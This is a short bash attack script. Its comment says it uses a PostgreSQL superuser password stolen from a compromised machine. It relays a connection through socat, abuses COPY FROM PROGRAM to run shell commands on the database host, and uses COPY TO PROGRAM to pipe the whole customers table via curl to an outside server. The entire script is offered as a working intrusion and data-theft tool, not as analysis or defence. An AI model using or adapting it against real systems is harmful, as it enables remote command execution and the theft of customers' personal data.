#!/bin/bash
# A database superuser's password from a taken machine: COPY starts programs on web1 and sends the customers out.
socat TCP-LISTEN:5439,bind=127.0.0.1,fork,reuseaddr TCP:10.20.0.5:5432,bind=10.20.0.66 &
relay=$!
trap 'kill $relay' EXIT
sleep 0.5
psql -q -h 127.0.0.1 -p 5439 -U dba shop <<'EOF'
create temp table seen (line text);
copy seen from program 'id; ls -la /var/lib/postgresql';
copy (select * from customers) to program 'curl -s --data-binary @- http://203.0.113.66/customers';
EOF
